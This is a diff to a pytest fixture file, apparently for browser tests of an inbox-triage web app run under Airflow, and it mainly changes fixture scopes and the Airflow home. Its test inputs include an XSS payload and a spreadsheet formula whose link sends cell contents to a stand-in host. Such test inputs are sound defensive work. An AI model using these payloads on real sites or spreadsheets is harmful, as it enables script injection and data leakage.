@@ -23,7 +23,7 @@ from tests.inbox import FIRST, LAST, N_DAYS, SUBJECTS, about, inbox, raw_row
 
 NEXT = LAST + dt.timedelta(1)
 SCRIPT = "I lost my card <script>window.hurt = true</script><img src=x onerror=alert(1)>"
-FORMULA = '=HYPERLINK("http://127.0.0.1/?"&A1) I lost my card'
+FORMULA = '=HYPERLINK("http://x.test/?"&A1) I lost my card'
 _NAMES = ("chromium", "chromium-browser", "google-chrome")
 _FLAGS = ["--no-sandbox", "--disable-background-networking", "--disable-component-update"]
 
@@ -47,16 +47,16 @@ class Site:
         rng = Random(8)
         names = [*SUBJECTS, "mortgage"]
         rows = {NEXT: [row for name in names for row in about(name, NEXT, 12, rng)]}
-        rows[NEXT] += about("refund", NEXT, 80, rng)[12:]
         source = MemorySource("inbox", rows)
         run_days(self.store, self.encoder, [NEXT], sources=[source], settings=self.settings)
 
 
-@pytest.fixture(scope="session")
+@pytest.fixture(scope="package")
 def site(local_dir: Path, encoder: SentenceEncoder) -> Iterator[Site]:
     """Ten days, triaged by the real jobs with a model that is seldom sure, behind Airflow."""
     url = embedded.database_url(local_dir, "browser")
-    settings = load(database_url=url, local_dir=local_dir, intent_threshold=0.97, _env_file=None)
+    home = local_dir / "browser"  # an Airflow of its own, beside that of the DAGs' tests
+    settings = load(database_url=url, local_dir=home, intent_threshold=0.97, _env_file=None)
     migrate(settings)
     rows = inbox()
     rows[LAST] += [raw_row("script", LAST, SCRIPT, "chat"), raw_row("formula", LAST, FORMULA, None)]
@@ -81,7 +81,7 @@ def site(local_dir: Path, encoder: SentenceEncoder) -> Iterator[Site]:
             yield Site(airflow, store, encoder, settings)
 
 
-@pytest.fixture(scope="session")
+@pytest.fixture(scope="package")
 def chromium() -> Iterator[Browser]:
     """The Chromium of the machine; without one the tests fail and say how to get it."""
     path = next((found for name in _NAMES if (found := shutil.which(name))), None)
